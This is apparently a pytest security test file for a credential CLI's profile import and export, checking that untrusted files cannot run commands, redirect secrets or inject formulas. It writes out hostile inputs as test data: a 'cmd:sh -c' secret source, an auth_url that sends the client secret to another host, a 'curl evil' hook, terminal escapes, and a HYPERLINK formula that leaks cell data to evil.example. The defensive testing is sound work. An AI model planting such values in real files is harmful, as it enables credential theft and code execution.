"""A file to import is foreign: the attacks it could carry, replayed with the real `csauth`
command against fake Contentsquare APIs on loopback.

By default an import takes data only. A `secret` source (a command that would run at the
next `csauth token`, an env var to read) or an `auth_url` (where the client secret is
sent) refuses its row unless let in by name; a profile replaced by --overwrite keeps its
own secret source and auth_url; exported CSV is formula-safe and imports back as it was.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import uuid
from pathlib import Path

import pytest

from csauth_tui.core.profiles import load
from csauth_tui.fake.server import FakeContentsquare, FakeCredential
from tests.integration.conftest import secret_service  # noqa: F401 (a fixture)

from .conftest import CREDENTIALS, CliEnv


def token_requests(fake: FakeContentsquare) -> list:
    return [r for r in fake.requests if r.path == "/v1/oauth/token"]


# --- (a) a command in a CSV row -----------------------------------------------------------


def test_a_csv_row_with_a_command_is_refused_and_the_command_never_runs(cli, tmp_path):
    marker = tmp_path / "MARKER"
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,project_id,scopes,created,description,secret\n"
        f"evil,project,proj-client-1,,metrics,,looks harmless,cmd:sh -c 'touch {marker}'\n"
        f"prod,project,proj-client-1,,metrics,,replaces prod,cmd:sh -c 'touch {marker}'\n"
        "plain,project,plain-client-1,,metrics,,data only,\n"
    )
    before = load(cli.config).profiles["prod"]

    result = cli.run("import", str(team), "--overwrite")
    assert result.returncode == 3, result.stderr
    for line, name in (("line 2", "evil"), ("line 3", "prod")):
        assert (
            f"{line}: reject {name}: secret source cmd:sh -c 'touch {marker}' refused: "
            "an import takes one only with --allow-secret-sources"
        ) in result.stderr
    assert "line 4: add plain" in result.stderr  # the other rows still import
    after = load(cli.config)
    assert "evil" not in after.order and "plain" in after.profiles
    assert after.profiles["prod"] == before

    # the next token and audit run whatever the file now says: no command of the import's
    assert cli.run("token", "evil").returncode == 3  # no such profile
    assert cli.run("token", "prod", "--no-cache").returncode == 0
    cli.run("audit")
    assert not marker.exists(), "a command from an imported file ran"


def test_let_in_on_purpose_the_dry_run_lists_the_command_first(cli, tmp_path):
    marker = tmp_path / "MARKER"
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,scopes,secret\n"
        f"scripted,project,proj-client-1,metrics,cmd:sh -c 'touch {marker}'\n"
    )
    before = cli.config.read_text()

    dry = cli.run("import", str(team), "--allow-secret-sources", "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert f"line 2: would add scripted (secret source: cmd:sh -c 'touch {marker}')" in dry.stderr
    assert cli.config.read_text() == before and not marker.exists()

    real = cli.run("import", str(team), "--allow-secret-sources")
    assert real.returncode == 0, real.stderr
    assert f"line 2: add scripted (secret source: cmd:sh -c 'touch {marker}')" in real.stderr
    assert load(cli.config).profiles["scripted"].secret.text == f"cmd:sh -c 'touch {marker}'"
    assert not marker.exists()  # taken in, not run: it runs when a token is asked for


def test_a_command_that_looks_like_a_pasted_secret_is_not_quoted(cli, tmp_path):
    pasted = "sentinel-import-pasted-Xq7Lm2Rt9Vw4Zp8K"
    team = tmp_path / "team.json"
    team.write_text(
        json.dumps(
            [
                {
                    "name": "odd",
                    "level": "project",
                    "client_id": "c-odd",
                    "secret": f"cmd:echo {pasted}",
                }
            ]
        )
    )
    for flags in ((), ("--allow-secret-sources", "--dry-run")):
        result = cli.run("import", str(team), *flags)
        assert "cmd: (command not shown: it looks like a secret)" in result.stderr
        assert pasted not in result.stderr


# --- (b) an auth_url pointing elsewhere, with --overwrite ---------------------------------


def auth_url_file(tmp_path, fmt: str, url: str):
    if fmt == "toml":
        path = tmp_path / "team.toml"
        path.write_text(
            '[profiles.prod]\nlevel = "project"\nclient_id = "proj-client-1"\n'
            f'scopes = ["metrics"]\nauth_url = "{url}"\n'
        )
    else:
        path = tmp_path / "team.json"
        path.write_text(
            json.dumps(
                {
                    "profiles": [
                        {
                            "name": "prod",
                            "level": "project",
                            "client_id": "proj-client-1",
                            "scopes": ["metrics"],
                            "auth_url": url,
                        }
                    ]
                }
            )
        )
    return path


@pytest.mark.parametrize("fmt", ["toml", "json"])
def test_an_auth_url_in_the_file_never_takes_the_secret_to_another_host(cli, tmp_path, fmt):
    with FakeContentsquare(CREDENTIALS) as elsewhere:
        team = auth_url_file(tmp_path, fmt, elsewhere.url)
        where = "profiles.prod" if fmt == "toml" else "item 1"

        result = cli.run("import", str(team), "--overwrite")
        assert result.returncode == 3, result.stderr
        assert (
            f"{where}: reject prod: auth_url {elsewhere.url} refused: an import takes "
            "one only with --allow-auth-url"
        ) in result.stderr
        assert load(cli.config).profiles["prod"].auth_url is None

        token = cli.run("token", "prod", "--no-cache")
        assert token.returncode == 0, token.stderr
        assert len(token_requests(cli.fake)) == 1  # the secret went where it always did
        assert elsewhere.requests == []  # and never to the file's host

        dry = cli.run("import", str(team), "--overwrite", "--allow-auth-url", "--dry-run")
        assert dry.returncode == 0, dry.stderr
        assert (
            f"{where}: would replace prod (auth_url: {elsewhere.url} (was the default))"
            in dry.stderr
        )


def test_an_overwrite_keeps_the_profiles_own_auth_url_and_secret_source(cli, tmp_path):
    """The row says nothing of auth_url or secret source: the profile keeps its own. (It
    used to be replaced whole: its secret then went to the settings' auth_url.)"""
    with FakeContentsquare(CREDENTIALS) as decoy:
        text = cli.config.read_text().replace(
            f'auth_url = "{cli.fake.url}"', f'auth_url = "{decoy.url}"'
        )
        text = text.replace(
            'secret = "env:CS_TEST_PROD_SECRET"\n',
            f'secret = "env:CS_TEST_PROD_SECRET"\nauth_url = "{cli.fake.url}"\n',
        )
        cli.write_profiles(text)
        team = tmp_path / "team.csv"
        team.write_text(
            "name,level,client_id,project_id,scopes,description,client_secret\n"
            "prod,project,proj-client-1,1001,metrics data-export,renamed,"
            "sentinel-import-row-secret-77c1a9\n"
        )

        result = cli.run("import", str(team), "--overwrite")
        assert f"line 2: replace prod: keeps its own auth_url {cli.fake.url}" in result.stderr
        assert (
            "client_secret not imported: the profile keeps its secret source "
            "env:CS_TEST_PROD_SECRET (--allow-secret-sources moves it to the keyring)"
            in result.stderr
        )
        prod = load(cli.config).profiles["prod"]
        assert (prod.description, prod.project_id, prod.scopes) == (
            "renamed",
            1001,
            ("metrics", "data-export"),
        )  # the data fields replaced
        assert (prod.auth_url, prod.secret.text) == (cli.fake.url, "env:CS_TEST_PROD_SECRET")

        token = cli.run("token", "prod", "--no-cache")
        assert token.returncode == 0, token.stderr
        assert len(token_requests(cli.fake)) == 1 and decoy.requests == []


# --- (c) an env: source ---------------------------------------------------------------------


def test_an_env_source_is_refused_by_default_and_listed_when_let_in(cli, tmp_path):
    with FakeContentsquare(CREDENTIALS) as elsewhere:
        team = tmp_path / "team.json"
        # the variable holding prod's secret, read for a profile that sends it elsewhere
        team.write_text(
            json.dumps(
                [
                    {
                        "name": "sneaky",
                        "level": "project",
                        "client_id": "proj-client-1",
                        "secret": "env:CS_TEST_PROD_SECRET",
                        "auth_url": elsewhere.url,
                    }
                ]
            )
        )
        result = cli.run("import", str(team))
        assert result.returncode == 3
        assert (
            "item 1: reject sneaky: secret source env:CS_TEST_PROD_SECRET refused: an "
            "import takes one only with --allow-secret-sources; auth_url "
            f"{elsewhere.url} refused: an import takes one only with --allow-auth-url"
            in result.stderr
        )
        assert "sneaky" not in load(cli.config).order
        assert cli.run("token", "sneaky").returncode == 3
        assert elsewhere.requests == []

        dry = cli.run(
            "import", str(team), "--dry-run", "--allow-secret-sources", "--allow-auth-url"
        )
        assert dry.returncode == 0
        assert (
            "item 1: would add sneaky (secret source: env:CS_TEST_PROD_SECRET; "
            f"auth_url: {elsewhere.url})"
        ) in dry.stderr
        # one flag lets in one field: the other still refuses the row
        half = cli.run("import", str(team), "--dry-run", "--allow-secret-sources")
        assert half.returncode == 3 and "item 1: reject sneaky: auth_url" in half.stderr


def test_unknown_fields_are_said_to_be_ignored(cli, tmp_path):
    team = tmp_path / "team.json"
    team.write_text(
        json.dumps(
            [
                {
                    "name": "extra",
                    "level": "project",
                    "client_id": "c-x",
                    "colour": "blue",
                    "on_token": "curl evil",
                }
            ]
        )
    )
    result = cli.run("import", str(team), "--dry-run")
    assert result.returncode == 0
    assert "item 1: would add extra: unknown field(s) colour, on_token ignored" in result.stderr


def test_foreign_text_in_the_report_is_inert(cli, tmp_path):
    team = tmp_path / "team.json"
    team.write_text(
        json.dumps(
            [
                {"name": "x\x1b]52;c;aGk=\x07", "level": "project", "client_id": "c-1"},
                {
                    "name": "y",
                    "level": "project",
                    "client_id": "c-2",
                    "secret": "cmd:echo \x1b[2J\u202e",
                },
            ]
        )
    )
    result = cli.run("import", str(team), "--allow-secret-sources", "--dry-run")
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr
    assert "x\\x1b]52;c;aGk=\\x07" in result.stderr
    assert "cmd:echo \\x1b[2J<U+202E>" in result.stderr


# --- a client_id shared by two profiles ------------------------------------------------------


def test_export_then_import_keeps_two_profiles_sharing_a_client_id(cli, tmp_path):
    cli.write_profiles(
        cli.config.read_text() + '\n[profiles.agency-2]\nlevel = "account"\n'
        'client_id = "acct-client-1"\nscopes = ["metrics"]\nproject_id = 1002\n'
    )
    exported = cli.run("export", "--format", "json")
    assert exported.returncode == 0
    shared = tmp_path / "shared.json"
    shared.write_text(exported.stdout)

    other = tmp_path / "other" / "profiles.toml"
    result = cli.run("--config", str(other), "import", str(shared), "--allow-secret-sources")
    assert result.returncode == 0, result.stderr
    assert "item 3: add agency-2: shares its client_id with 'agency'" in result.stderr
    imported = load(other).profiles
    assert list(imported) == ["prod", "agency", "agency-2"]
    assert imported["agency-2"].client_id == imported["agency"].client_id == "acct-client-1"
    assert imported["agency-2"].project_id == 1002

    again = cli.run("--config", str(other), "import", str(shared), "--allow-secret-sources")
    assert again.returncode == 0  # already there: skipped by name, not a failure
    assert "item 3: skip agency-2: a profile with this name exists" in again.stderr


def test_two_rows_with_different_secrets_for_one_client_id_keep_the_first(cli, tmp_path):
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,scopes,client_secret\n"
        "one,project,shared-client,metrics,sentinel-import-first-4b2e91\n"
        "two,project,shared-client,metrics,sentinel-import-second-c80d13\n"
    )
    dry = cli.run("import", str(team), "--dry-run")
    assert dry.returncode == 3
    assert (
        "line 3: would add two: shares its client_id with 'one'; client_secret NOT "
        "imported: line 2 gives a different one for the same client_id"
    ) in dry.stderr


# --- export ----------------------------------------------------------------------------------


def test_export_of_a_glob_that_matches_nothing_is_an_error(cli, tmp_path):
    out = tmp_path / "out.toml"
    result = cli.run("export", "--profile", "nope-*", "--output", str(out))
    assert result.returncode == 3
    assert "no profile matches nope-*" in result.stderr
    assert not out.exists()


def test_an_exported_csv_is_formula_safe_and_imports_back_as_it_was(cli, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    quoted = "'-already quoted"
    text = (
        cli.config.read_text()
        .replace(
            'secret = "env:CS_TEST_PROD_SECRET"\n',
            f'secret = "env:CS_TEST_PROD_SECRET"\ndescription = {json.dumps(formula)}\n',
        )
        .replace(
            'secret = "env:CS_TEST_AGENCY_SECRET"\n',
            f'secret = "env:CS_TEST_AGENCY_SECRET"\ndescription = "{quoted}"\n',
        )
    )
    cli.write_profiles(text)

    exported = cli.run("export", "--format", "csv")
    assert exported.returncode == 0
    cells = {row["name"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    assert cells["prod"]["description"] == "'" + formula  # a spreadsheet shows it as text
    assert cells["agency"]["description"] == "'" + quoted

    shared = tmp_path / "shared.csv"
    shared.write_text(exported.stdout)
    other = tmp_path / "other" / "profiles.toml"
    result = cli.run("--config", str(other), "import", str(shared), "--allow-secret-sources")
    assert result.returncode == 0, result.stderr
    back = load(other).profiles
    assert back["prod"].description == formula
    assert back["agency"].description == quoted


# --- with the real keyring (tests/run-suite) --------------------------------------------------

KEYRING_SECRET = "sentinel-import-keyring-secret-" + uuid.uuid4().hex[:12]
OTHER_SECRET = "sentinel-import-other-secret-" + uuid.uuid4().hex[:12]
FIRST_SECRET = "sentinel-import-first-row-" + uuid.uuid4().hex[:12]
SECOND_SECRET = "sentinel-import-second-row-" + uuid.uuid4().hex[:12]


@pytest.fixture
def keyring_cli(secret_service, monkeypatch, isolated_home):
    """A CliEnv whose child processes use the real Secret Service keyring, with one
    keyring profile `kr` added the way a user adds one."""
    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.SecretService.Keyring")
    client_id = f"kr-{uuid.uuid4().hex[:8]}"
    with FakeContentsquare(
        [FakeCredential(client_id, KEYRING_SECRET, scopes=("metrics",))]
    ) as fake:
        cli = CliEnv(fake, Path(os.environ["CSAUTH_CONFIG"]), Path(os.environ["CSAUTH_CACHE_DIR"]))
        cli.write_profiles(f'[settings]\nauth_url = "{fake.url}"\n')
        added = cli.run(
            "add", "kr", "--level", "project", "--client-id", client_id, input=KEYRING_SECRET + "\n"
        )
        assert added.returncode == 0, added.stderr
        cli.client_id = client_id
        yield cli
        for user in (client_id, f"{client_id}-pair"):
            with contextlib.suppress(Exception):
                secret_service.delete_password("csauth-tui", user)


@pytest.mark.keyring
def test_a_keyring_profile_overwritten_with_an_auth_url_never_sends_its_secret_there(
    keyring_cli, tmp_path
):
    cli = keyring_cli
    with FakeContentsquare(
        [FakeCredential(cli.client_id, KEYRING_SECRET, scopes=("metrics",))]
    ) as elsewhere:
        team = tmp_path / "team.toml"
        team.write_text(
            f'[profiles.kr]\nlevel = "project"\nclient_id = "{cli.client_id}"\n'
            f'scopes = ["metrics"]\nauth_url = "{elsewhere.url}"\n'
        )
        result = cli.run("import", str(team), "--overwrite")
        assert result.returncode == 3
        assert "profiles.kr: reject kr: auth_url" in result.stderr
        assert load(cli.config).profiles["kr"].auth_url is None

        token = cli.run("token", "kr", "--no-cache")
        assert token.returncode == 0, token.stderr
        assert len(token_requests(cli.fake)) == 1  # the fake that knows the secret saw it
        assert elsewhere.requests == []  # the file's host saw nothing


@pytest.mark.keyring
def test_a_different_secret_in_the_keyring_is_kept_unless_replaced_on_purpose(
    keyring_cli, secret_service, tmp_path
):
    cli = keyring_cli
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,scopes,client_secret\n"
        f"kr-copy,project,{cli.client_id},metrics,{OTHER_SECRET}\n"
    )
    result = cli.run("import", str(team))
    assert result.returncode == 3, result.stderr
    assert (
        "kr-copy: client_secret NOT imported: the keyring already holds a different "
        "secret for client_id"
    ) in result.stderr and "--replace-secret" in result.stderr
    assert secret_service.get_password("csauth-tui", cli.client_id) == KEYRING_SECRET
    assert load(cli.config).profiles["kr-copy"].secret.text == "keyring"
    for name in ("kr", "kr-copy"):  # both still work, with the secret that was kept
        assert cli.run("token", name, "--no-cache").returncode == 0

    # replacing on purpose: a secret Contentsquare refuses never replaces one that works
    team.write_text(team.read_text().replace("kr-copy", "kr-again"))
    refused = cli.run("import", str(team), "--replace-secret")
    assert refused.returncode == 3, refused.stderr
    assert "the API refused the new one" in refused.stderr
    assert secret_service.get_password("csauth-tui", cli.client_id) == KEYRING_SECRET
    assert cli.run("token", "kr", "--no-cache").returncode == 0

    # the credential rotated in the console: the new secret is proved, then replaces it,
    # and the tokens cached from the old one are dropped
    assert cli.run("token", "kr").returncode == 0  # a cached token of the old secret
    before = len(token_requests(cli.fake))
    cli.fake.add_credential(FakeCredential(cli.client_id, OTHER_SECRET, scopes=("metrics",)))
    team.write_text(team.read_text().replace("kr-again", "kr-rotated"))
    replaced = cli.run("import", str(team), "--replace-secret")
    assert replaced.returncode == 0, replaced.stderr
    assert "kr-rotated: secret REPLACED in the keyring, as asked" in replaced.stderr
    assert secret_service.get_password("csauth-tui", cli.client_id) == OTHER_SECRET
    assert cli.run("token", "kr").returncode == 0
    assert len(token_requests(cli.fake)) == before + 2  # the proof, then a fresh token


@pytest.mark.keyring
def test_no_verify_replaces_without_asking_the_api(keyring_cli, secret_service, tmp_path):
    cli = keyring_cli
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,scopes,client_secret\n"
        f"kr-forced,project,{cli.client_id},metrics,{OTHER_SECRET}\n"
    )
    assert cli.run("import", str(team), "--no-verify").returncode == 2  # only with replace
    before = len(token_requests(cli.fake))
    forced = cli.run("import", str(team), "--replace-secret", "--no-verify")
    assert forced.returncode == 0, forced.stderr
    assert secret_service.get_password("csauth-tui", cli.client_id) == OTHER_SECRET
    assert len(token_requests(cli.fake)) == before  # nothing was asked


@pytest.mark.keyring
def test_two_rows_giving_one_client_id_two_secrets_store_the_first_only(
    keyring_cli, secret_service, tmp_path
):
    cli = keyring_cli
    pair = f"{cli.client_id}-pair"
    team = tmp_path / "team.csv"
    team.write_text(
        "name,level,client_id,scopes,client_secret\n"
        f"one,project,{pair},metrics,{FIRST_SECRET}\n"
        f"two,project,{pair},metrics,{SECOND_SECRET}\n"
    )
    result = cli.run("import", str(team))
    assert result.returncode == 3, result.stderr
    assert "one: secret stored in the keyring" in result.stderr
    assert (
        "two: client_secret NOT imported: line 2 gives a different one for the same client_id"
    ) in result.stderr
    assert secret_service.get_password("csauth-tui", pair) == FIRST_SECRET
    assert list(load(cli.config).profiles) == ["kr", "one", "two"]
